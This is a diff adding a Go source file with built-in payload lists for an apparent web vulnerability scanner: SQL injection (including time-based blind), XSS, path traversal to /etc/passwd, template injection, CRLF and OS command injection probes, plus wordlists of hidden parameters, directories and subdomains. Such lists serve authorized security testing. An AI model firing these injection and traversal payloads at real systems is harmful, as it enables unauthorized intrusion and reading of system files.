@@ -0,0 +1,745 @@
+package payload
+
+import (
+	"fmt"
+	"slices"
+	"strings"
+)
+
+// List is a named set of payloads for one vulnerability class.
+type List struct {
+	Name        string
+	Description string
+	Payloads    []string
+}
+
+var lists = []List{
+	{
+		Name:        "sqli",
+		Description: "SQL injection: quote breaking, boolean and UNION probes, stacked queries, comments",
+		Payloads: []string{
+			"'",
+			"\"",
+			"`",
+			"')",
+			"\")",
+			"'--",
+			"'#",
+			"' OR '1'='1",
+			"' OR '1'='1'--",
+			"' OR 1=1--",
+			"\" OR \"1\"=\"1",
+			"\" OR 1=1--",
+			"') OR ('1'='1",
+			"1 OR 1=1",
+			"1' AND '1'='1",
+			"1' AND '1'='2",
+			"1 AND 1=1",
+			"1 AND 1=2",
+			"' UNION SELECT NULL--",
+			"' UNION SELECT NULL,NULL--",
+			"' UNION SELECT NULL,NULL,NULL--",
+			"' ORDER BY 1--",
+			"' ORDER BY 100--",
+			"admin'--",
+			"1; SELECT 1--",
+			"'||'",
+			"'+'",
+			"' AND 1=CONVERT(int,@@version)--",
+			"' AND extractvalue(1,concat(0x7e,version()))--",
+		},
+	},
+	{
+		Name:        "sqli-time",
+		Description: "Time-based blind SQL injection (5s delay) for MySQL, PostgreSQL, MSSQL, Oracle, SQLite",
+		Payloads: []string{
+			"' AND SLEEP(5)--",
+			"' OR SLEEP(5)--",
+			"1 AND SLEEP(5)",
+			"' AND (SELECT 1 FROM (SELECT SLEEP(5))a)--",
+			"'; SELECT pg_sleep(5)--",
+			"' AND 1=(SELECT 1 FROM pg_sleep(5))--",
+			"1; SELECT pg_sleep(5)",
+			"'; WAITFOR DELAY '0:0:5'--",
+			"1; WAITFOR DELAY '0:0:5'--",
+			"' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('a',5)--",
+			"' AND 1=randomblob(500000000)--",
+		},
+	},
+	{
+		Name:        "xss",
+		Description: "Cross-site scripting: tag injection, event handlers, attribute and script-context breakouts",
+		Payloads: []string{
+			"<script>alert(1)</script>",
+			"<img src=x onerror=alert(1)>",
+			"<svg onload=alert(1)>",
+			"<svg/onload=alert(1)>",
+			"<body onload=alert(1)>",
+			"<iframe src=javascript:alert(1)>",
+			"<details open ontoggle=alert(1)>",
+			"<input autofocus onfocus=alert(1)>",
+			"<a href=javascript:alert(1)>x</a>",
+			"\"><script>alert(1)</script>",
+			"'><script>alert(1)</script>",
+			"\" onmouseover=alert(1) x=\"",
+			"' onmouseover=alert(1) x='",
+			"\" autofocus onfocus=alert(1) x=\"",
+			"</script><script>alert(1)</script>",
+			"';alert(1);//",
+			"\";alert(1);//",
+			"\\';alert(1);//",
+			"${alert(1)}",
+			"javascript:alert(1)",
+			"<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+			"{{constructor.constructor('alert(1)')()}}",
+		},
+	},
+	{
+		Name:        "path-traversal",
+		Description: "Path traversal to /etc/passwd and win.ini: plain, encoded, double-encoded, filter bypasses",
+		Payloads: []string{
+			"../../../../../../etc/passwd",
+			"../../../../../../etc/passwd%00",
+			"..%2f..%2f..%2f..%2f..%2f..%2fetc%2fpasswd",
+			"..%252f..%252f..%252f..%252f..%252f..%252fetc%252fpasswd",
+			"%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
+			"..%c0%af..%c0%af..%c0%af..%c0%af..%c0%af..%c0%afetc/passwd",
+			"....//....//....//....//....//....//etc/passwd",
+			"..././..././..././..././..././..././etc/passwd",
+			"/etc/passwd",
+			"file:///etc/passwd",
+			"/proc/self/environ",
+			"..\\..\\..\\..\\..\\..\\windows\\win.ini",
+			"..%5c..%5c..%5c..%5c..%5c..%5cwindows%5cwin.ini",
+			"C:\\windows\\win.ini",
+		},
+	},
+	{
+		Name:        "ssti",
+		Description: "Server-side template injection probes (7*7=49) for Jinja2, Twig, Freemarker, Velocity, ERB, Thymeleaf, Smarty",
+		Payloads: []string{
+			"{{7*7}}",
+			"${7*7}",
+			"#{7*7}",
+			"<%= 7*7 %>",
+			"${{7*7}}",
+			"{{7*'7'}}",
+			"*{7*7}",
+			"@(7*7)",
+			"{7*7}",
+			"[[${7*7}]]",
+			"#set($x=7*7)${x}",
+			"{{config}}",
+			"{{self.__init__.__globals__}}",
+			"<#assign x=7*7>${x}",
+			"{php}echo 7*7;{/php}",
+		},
+	},
+	{
+		Name:        "crlf",
+		Description: "CRLF injection for response splitting and header injection: encoded, double-encoded, Unicode",
+		Payloads: []string{
+			"%0d%0aSet-Cookie:sectool=crlf",
+			"%0aSet-Cookie:sectool=crlf",
+			"%0dSet-Cookie:sectool=crlf",
+			"%250d%250aSet-Cookie:sectool=crlf",
+			"%0d%0a%0d%0a<script>alert(1)</script>",
+			"%E5%98%8A%E5%98%8DSet-Cookie:sectool=crlf",
+			"%u000d%u000aSet-Cookie:sectool=crlf",
+			"\\r\\nSet-Cookie:sectool=crlf",
+			"%23%0d%0aSet-Cookie:sectool=crlf",
+			"/%0d%0aLocation:https://example.com",
+		},
+	},
+	{
+		Name:        "cmdi",
+		Description: "OS command injection: separators, substitution, and blind time delays for Unix and Windows",
+		Payloads: []string{
+			";id",
+			"|id",
+			"||id",
+			"&id",
+			"&&id",
+			"`id`",
+			"$(id)",
+			"%0aid",
+			";id;",
+			"';id;'",
+			"\";id;\"",
+			";sleep 5",
+			"|sleep 5",
+			"$(sleep 5)",
+			"`sleep 5`",
+			"& ping -n 6 127.0.0.1 &",
+			"| ping -c 6 127.0.0.1",
+			"& whoami",
+			"| type C:\\windows\\win.ini",
+			"${IFS}id",
+			";cat${IFS}/etc/passwd",
+		},
+	},
+	{
+		Name:        "params",
+		Description: "Common hidden parameter names (debug, admin, redirect, mass-assignment fields) for param_discover",
+		Payloads: []string{
+			"id",
+			"user_id",
+			"uid",
+			"userid",
+			"account",
+			"account_id",
+			"admin",
+			"debug",
+			"test",
+			"dev",
+			"preview",
+			"draft",
+			"internal",
+			"role",
+			"roles",
+			"is_admin",
+			"isadmin",
+			"admin_mode",
+			"access",
+			"level",
+			"group",
+			"groups",
+			"permission",
+			"permissions",
+			"scope",
+			"token",
+			"access_token",
+			"api_key",
+			"apikey",
+			"key",
+			"secret",
+			"auth",
+			"session",
+			"sessionid",
+			"sid",
+			"csrf",
+			"csrf_token",
+			"nonce",
+			"callback",
+			"cb",
+			"jsonp",
+			"redirect",
+			"redirect_uri",
+			"redirect_url",
+			"return",
+			"return_url",
+			"returnurl",
+			"next",
+			"url",
+			"uri",
+			"target",
+			"dest",
+			"destination",
+			"continue",
+			"goto",
+			"forward",
+			"ref",
+			"referer",
+			"origin",
+			"host",
+			"domain",
+			"site",
+			"path",
+			"file",
+			"filename",
+			"filepath",
+			"dir",
+			"folder",
+			"template",
+			"page",
+			"view",
+			"include",
+			"load",
+			"src",
+			"source",
+			"lang",
+			"language",
+			"locale",
+			"format",
+			"type",
+			"mode",
+			"output",
+			"action",
+			"cmd",
+			"command",
+			"exec",
+			"do",
+			"func",
+			"method",
+			"op",
+			"operation",
+			"q",
+			"query",
+			"search",
+			"s",
+			"keyword",
+			"filter",
+			"sort",
+			"order",
+			"orderby",
+			"sort_by",
+			"limit",
+			"offset",
+			"start",
+			"count",
+			"size",
+			"per_page",
+			"page_size",
+			"email",
+			"username",
+			"name",
+			"password",
+			"pass",
+			"new_password",
+			"old_password",
+			"phone",
+			"verified",
+			"confirm",
+			"code",
+			"otp",
+			"status",
+			"state",
+			"enabled",
+			"active",
+			"disabled",
+			"hidden",
+			"visible",
+			"public",
+			"private",
+			"version",
+			"v",
+			"api_version",
+			"debug_mode",
+			"verbose",
+			"trace",
+			"log",
+			"raw",
+			"pretty",
+			"fields",
+			"select",
+			"expand",
+			"include_deleted",
+			"deleted",
+			"price",
+			"amount",
+			"quantity",
+			"qty",
+			"discount",
+			"coupon",
+			"currency",
+			"plan",
+			"tier",
+			"upgrade",
+			"trial",
+			"config",
+			"settings",
+			"options",
+			"feature",
+			"features",
+			"flag",
+			"flags",
+			"beta",
+			"experimental",
+			"internal_only",
+			"owner",
+			"owner_id",
+			"tenant",
+			"tenant_id",
+			"org",
+			"org_id",
+			"organization",
+			"organization_id",
+			"team",
+			"team_id",
+			"project",
+			"project_id",
+			"json",
+			"xml",
+			"html",
+			"text",
+			"data",
+			"payload",
+			"body",
+			"content",
+			"message",
+			"comment",
+			"value",
+		},
+	},
+	{
+		Name:        "dirs",
+		Description: "Common directory and file names (admin panels, API docs, backups, VCS and config leaks) for dirbust",
+		Payloads: []string{
+			"admin",
+			"administrator",
+			"login",
+			"logout",
+			"register",
+			"signup",
+			"auth",
+			"account",
+			"accounts",
+			"user",
+			"users",
+			"profile",
+			"dashboard",
+			"panel",
+			"console",
+			"manage",
+			"manager",
+			"management",
+			"api",
+			"api/v1",
+			"api/v2",
+			"v1",
+			"v2",
+			"graphql",
+			"swagger",
+			"swagger-ui",
+			"swagger.json",
+			"openapi.json",
+			"api-docs",
+			"docs",
+			"doc",
+			"documentation",
+			"static",
+			"assets",
+			"public",
+			"files",
+			"uploads",
+			"upload",
+			"images",
+			"img",
+			"css",
+			"js",
+			"scripts",
+			"media",
+			"download",
+			"downloads",
+			"backup",
+			"backups",
+			"bak",
+			"old",
+			"new",
+			"test",
+			"tests",
+			"testing",
+			"dev",
+			"development",
+			"staging",
+			"debug",
+			"tmp",
+			"temp",
+			"cache",
+			"logs",
+			"log",
+			"config",
+			"configuration",
+			"conf",
+			"settings",
+			"setup",
+			"install",
+			"include",
+			"includes",
+			"lib",
+			"vendor",
+			"node_modules",
+			"src",
+			"app",
+			"application",
+			"private",
+			"internal",
+			"secret",
+			"hidden",
+			"data",
+			"db",
+			"database",
+			"sql",
+			"mysql",
+			"phpmyadmin",
+			"adminer",
+			"cgi-bin",
+			"bin",
+			"server-status",
+			"server-info",
+			"status",
+			"health",
+			"healthz",
+			"metrics",
+			"actuator",
+			"actuator/health",
+			"actuator/env",
+			"env",
+			"info",
+			"version",
+			"portal",
+			"web",
+			"www",
+			"site",
+			"home",
+			"index",
+			"search",
+			"reports",
+			"report",
+			"export",
+			"import",
+			"cron",
+			"jobs",
+			"tasks",
+			"webhook",
+			"webhooks",
+			"callback",
+			"oauth",
+			"sso",
+			"saml",
+			"cart",
+			"checkout",
+			"orders",
+			"payment",
+			"payments",
+			"billing",
+			"invoice",
+			"support",
+			"help",
+			"contact",
+			"about",
+			"feed",
+			"rss",
+			"sitemap.xml",
+			"robots.txt",
+			"crossdomain.xml",
+			"security.txt",
+			".well-known",
+			".well-known/security.txt",
+			".git",
+			".git/HEAD",
+			".git/config",
+			".svn",
+			".hg",
+			".env",
+			".htaccess",
+			".htpasswd",
+			".DS_Store",
+			"web.config",
+			"wp-admin",
+			"wp-login.php",
+			"wp-content",
+			"wp-includes",
+			"xmlrpc.php",
+			"administrator/index.php",
+			"phpinfo.php",
+			"info.php",
+			"test.php",
+			"index.php",
+			"index.html",
+			"default.aspx",
+			"elmah.axd",
+			"trace.axd",
+			"config.php",
+			"config.json",
+			"config.yml",
+			"settings.json",
+			"package.json",
+			"composer.json",
+			"Dockerfile",
+			"docker-compose.yml",
+			".dockerignore",
+			"backup.zip",
+			"backup.sql",
+			"dump.sql",
+			"database.sql",
+			"db.sql",
+			"site.zip",
+			"www.zip",
+		},
+	},
+	{
+		Name:        "subdomains",
+		Description: "Common subdomain and virtual host labels (environments, admin and CI tooling, mail, storage) for subdomain_enum and vhost_discover",
+		Payloads: []string{
+			"www",
+			"mail",
+			"webmail",
+			"smtp",
+			"imap",
+			"pop",
+			"ns1",
+			"ns2",
+			"dns",
+			"mx",
+			"vpn",
+			"remote",
+			"gateway",
+			"portal",
+			"admin",
+			"administrator",
+			"api",
+			"api-v1",
+			"api2",
+			"app",
+			"apps",
+			"mobile",
+			"m",
+			"dev",
+			"develop",
+			"development",
+			"staging",
+			"stage",
+			"stg",
+			"qa",
+			"test",
+			"testing",
+			"uat",
+			"sandbox",
+			"demo",
+			"beta",
+			"alpha",
+			"preview",
+			"pre",
+			"prod",
+			"production",
+			"internal",
+			"intranet",
+			"extranet",
+			"corp",
+			"office",
+			"secure",
+			"auth",
+			"login",
+			"sso",
+			"id",
+			"identity",
+			"accounts",
+			"account",
+			"oauth",
+			"static",
+			"assets",
+			"cdn",
+			"media",
+			"img",
+			"images",
+			"files",
+			"download",
+			"downloads",
+			"upload",
+			"uploads",
+			"docs",
+			"doc",
+			"wiki",
+			"help",
+			"support",
+			"status",
+			"monitor",
+			"monitoring",
+			"grafana",
+			"kibana",
+			"prometheus",
+			"jenkins",
+			"ci",
+			"build",
+			"git",
+			"gitlab",
+			"github",
+			"jira",
+			"confluence",
+			"repo",
+			"registry",
+			"docker",
+			"k8s",
+			"kubernetes",
+			"cloud",
+			"aws",
+			"azure",
+			"gcp",
+			"s3",
+			"storage",
+			"backup",
+			"backups",
+			"db",
+			"database",
+			"mysql",
+			"postgres",
+			"redis",
+			"elastic",
+			"search",
+			"shop",
+			"store",
+			"cart",
+			"pay",
+			"payment",
+			"payments",
+			"billing",
+			"crm",
+			"erp",
+			"hr",
+			"partner",
+			"partners",
+			"vendor",
+			"b2b",
+			"blog",
+			"news",
+			"forum",
+			"community",
+			"events",
+			"careers",
+			"jobs",
+			"old",
+			"new",
+			"legacy",
+			"v1",
+			"v2",
+			"web",
+			"web1",
+			"web2",
+			"origin",
+			"edge",
+			"proxy",
+			"lb",
+			"ftp",
+			"sftp",
+			"ssh",
+			"rdp",
+			"owa",
+			"exchange",
+			"autodiscover",
+			"cpanel",
+			"whm",
+			"plesk",
+			"dashboard",
+			"console",
+			"manage",
+			"panel",
+		},
+	},
+}
+
+// Lists returns the built-in payload lists.
+func Lists() []List {
+	return slices.Clone(lists)
+}
+
+// ListNames returns the built-in payload list names.
+func ListNames() []string {
+	names := make([]string, len(lists))
+	for i, l := range lists {
+		names[i] = l.Name
+	}
+	return names
+}
+
+// GetList returns the named payload list.
+func GetList(name string) (List, error) {
+	name = strings.TrimSpace(strings.ToLower(name))
+	idx := slices.IndexFunc(lists, func(l List) bool { return l.Name == name })
+	if idx < 0 {
+		return List{}, fmt.Errorf("unknown payload list %q (available: %s)", name, strings.Join(ListNames(), ", "))
+	}
+	l := lists[idx]
+	l.Payloads = slices.Clone(l.Payloads)
+	return l, nil
+}